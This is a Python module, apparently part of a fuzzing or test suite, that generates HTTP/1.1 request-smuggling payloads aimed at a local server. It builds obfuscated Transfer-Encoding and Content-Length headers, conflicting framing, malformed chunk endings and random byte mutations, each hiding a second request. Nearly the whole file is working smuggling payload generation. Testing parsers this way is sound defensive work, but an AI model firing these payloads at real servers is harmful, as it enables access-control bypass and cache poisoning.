"""Requests that two readers may read as different requests, made by known recipes.

The recipes are those of defparam's smuggler, of JeppW's smugchunks, and of "Funky chunks" and
"HTTP/1.1 must die": the name of one of the two framing fields misspelt so that only one of two
readers knows it, a second of it, or chunks whose end is found in two places. Every body holds a
whole request for `SMUGGLED`, in the place where the other reader would find it.
"""

import random
from collections.abc import Iterator

SMUGGLED = b"/api/content/published/smuggled"
HIDDEN = b"GET " + SMUGGLED + b" HTTP/1.1\r\nHost: localhost\r\nX: "
POST = b"POST /api/auth/register HTTP/1.1\r\nHost: localhost\r\n"
LAST = b"GET /api/content/published/last HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
ODD = [bytes([byte]) for byte in (*range(0x20), 0x7F, 0x80, 0x85, 0xA0, 0xAD, 0xFF)]
BAD_ENDS = [b"\n", b"\r", b"\r\r", b"\n\r", b"\r\r\n", b" \r\n", b"\x0b\r\n", b"\x00\r\n", b"\xff"]


def codings() -> Iterator[bytes]:
    """Spellings of `Transfer-Encoding: chunked`, each for some reader and not for others."""
    yield from (
        b"Transfer-Encoding: chunked",
        b"Transfer-Encoding:chunked",
        b"Transfer-Encoding :chunked",
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding\t: chunked",
        b" Transfer-Encoding: chunked",
        b"\tTransfer-Encoding: chunked",
        b"X: y\r\n Transfer-Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked",
        b"X: y\nTransfer-Encoding: chunked",
        b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding\r\n : chunked",
        b"Transfer-Encoding: chunked\r\n , identity",
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding: chunkedx",
        b"Transfer-Encoding: chunk",
        b"Transfer-Encoding: cow",
        b"Transfer-Encoding: identity",
        b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: chunked, chunked",
        b"Transfer-Encoding: ,chunked",
        b"Transfer-Encoding: chunked,",
        b"Transfer-Encoding: chunked;q=0",
        b"Transfer-Encoding: 'chunked'",
        b'Transfer-Encoding: "chunked"',
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
        b"Transfer-Encoding: gzip, chunked",
        b"TRANSFER-ENCODING: CHUNKED",
        b"tRANSFER-eNCODING: cHUNKED",
        b"Transfer_Encoding: chunked",
        b"Transfer-Encod\xc4\xb0ng: chunked",
        b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        b"Connection: Content-Length\r\nX: y",
        b"TE: chunked",
        b"Trailer: Content-Length\r\nTransfer-Encoding: chunked",
        b"Expect: 100-continue\r\nTransfer-Encoding: chunked",
        b"Upgrade: h2c\r\nConnection: Upgrade\r\nTransfer-Encoding: chunked",
    )
    for odd in ODD:
        yield b"Transfer-Encoding:" + odd + b"chunked"
        yield b"Transfer-Encoding: chunked" + odd
        yield b"Transfer-Encoding" + odd + b": chunked"
        yield odd + b"Transfer-Encoding: chunked"


def lengths() -> Iterator[bytes]:
    """Spellings of a Content-Length of nothing, while a request lies behind the head."""
    for value in (
        b"0",
        b"+0",
        b"-0",
        b"0x0",
        b"0, 0",
        b"0,",
        b" 0 ",
        b"0\t",
        b"00",
        b"0.0",
        b"",
        b"\x0b0",
    ):
        yield b"Content-Length: " + value
    yield b"Content-Length: 0\r\nContent-Length: %d" % len(HIDDEN)
    yield b"Content-Length: %d\r\nContent-Length: 0" % len(HIDDEN)
    yield b"Content-Length : %d" % len(HIDDEN)
    yield b"Content_Length: %d" % len(HIDDEN)
    yield b"Content-Length: %d\r\n 0" % len(HIDDEN)
    for odd in ODD:
        yield b"Content-Length:" + odd + b"%d" % len(HIDDEN)
        yield b"Content-Length" + odd + b": %d" % len(HIDDEN)


def by_framing() -> Iterator[bytes]:
    """A length and a coding that say different things."""
    chunked = b"0\r\n\r\n" + HIDDEN
    for coding in codings():
        length = b"Content-Length: %d" % len(chunked)
        yield POST + coding + b"\r\n" + length + b"\r\n\r\n" + chunked
        yield POST + length + b"\r\n" + coding + b"\r\n\r\n" + chunked
        as_chunk = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
        yield POST + coding + b"\r\nContent-Length: 4\r\n\r\n" + as_chunk
    for length in lengths():
        yield POST + length + b"\r\n\r\n" + HIDDEN


def by_chunks() -> Iterator[bytes]:
    """Chunks whose size, extension, data or trailer ends in two places."""
    head = POST + b"Transfer-Encoding: chunked\r\n\r\n"
    inner = b"0\r\n\r\n" + HIDDEN
    for end in BAD_ENDS:
        yield head + b"5" + end + b"AAAAA\r\n" + inner
        yield head + b"5;x" + end + b"AAAAA\r\n" + inner
        yield head + b'5;x="' + end + b'"\r\nAAAAA\r\n' + inner
        yield head + b"5\r\nAAAAA" + end + inner
        yield head + b"0" + end + b"\r\n" + HIDDEN
        yield head + b"0\r\n" + end + HIDDEN
        yield head + b"0\r\nX: y" + end + b"\r\n" + HIDDEN
    for size in (
        b"5 ",
        b" 5",
        b"+5",
        b"-5",
        b"0x5",
        b"5_0",
        b"05h",
        b"5.",
        b"5,5",
        b"",
        b"\xd9\xa5",
    ):
        yield head + size + b"\r\nAAAAA\r\n" + inner
    for over in range(-3, 4):
        yield head + b"%x\r\nAAAAA\r\n%b" % (5 + over, inner)
    for large in (b"f" * 15, b"f" * 16, b"f" * 17, b"1" + b"0" * 16, b"8000000000000000"):
        yield head + large + b"\r\n" + inner
    for trailer in (
        b"Content-Length: 9",
        b"Transfer-Encoding: chunked",
        b"Host: a",
        b"GET / HTTP/1.1",
    ):
        yield head + b"0\r\n" + trailer + b"\r\n\r\n" + HIDDEN


def by_chance(count: int) -> Iterator[bytes]:
    """Good requests with one to three bytes inserted, dropped or replaced; always the same ones."""
    chance = random.Random(7)  # noqa: S311 - the same requests in every run
    alphabet = [
        *ODD,
        b":",
        b",",
        b";",
        b" ",
        b"0",
        b"9",
        b"-",
        b"_",
        b"\r\n",
        b"\r\n\r\n",
        b"chunked",
    ]
    length = b"Content-Length: %d\r\n\r\n" % len(HIDDEN)
    models = [
        POST + length + HIDDEN,
        POST + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN),
        POST + b"Transfer-Encoding: chunked\r\n\r\n1;a=b\r\nA\r\n0\r\nX: y\r\n\r\n",
    ]
    for _ in range(count):
        mutant = bytearray(chance.choice(models))
        for _ in range(chance.randint(1, 3)):
            at = chance.randrange(len(mutant))
            mutant[at : at + chance.randint(0, 2)] = chance.choice(alphabet)
        yield bytes(mutant)
